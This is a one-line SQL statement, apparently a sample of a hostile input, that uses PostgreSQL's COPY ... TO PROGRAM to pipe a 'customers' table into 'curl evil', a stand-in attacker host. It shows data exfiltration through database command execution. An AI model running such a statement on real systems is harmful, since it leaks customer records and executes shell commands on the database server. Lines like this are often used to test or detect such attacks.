COPY customers TO PROGRAM 'curl evil'
